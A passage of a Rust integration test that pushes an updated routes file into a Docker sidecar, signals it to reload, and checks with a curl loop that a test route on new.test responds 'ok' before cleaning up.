    let tmp = routes_file.with_extension("json.new");
    std::fs::write(&tmp, routes.to_string()).unwrap();
    std::fs::rename(&tmp, &routes_file).unwrap();
    // Nothing is mounted: the file reaches the sidecar through the engine, as `reload` does.
    let inside = format!("{sidecar}:{}", bb_contract::layout::sidecar::ROUTES);
    docker_ok(&["cp", routes_file.to_str().unwrap(), &inside]);
    docker_ok(&["kill", "-s", "HUP", &sidecar]);
    let reloaded = exec(
        &agent,
        "node",
        "for i in $(seq 50); do curl -fsS -m 5 https://new.test/ && exit 0; sleep 0.1; done; exit 1",
    );
    assert_eq!(
        text(&reloaded).0,
        "ok",
        "the reloaded route works: {}",
        text(&reloaded).1
    );

    docker_ok(&["rm", "-f", "-v", &fixture]);
    b.take_down(&plan);
}
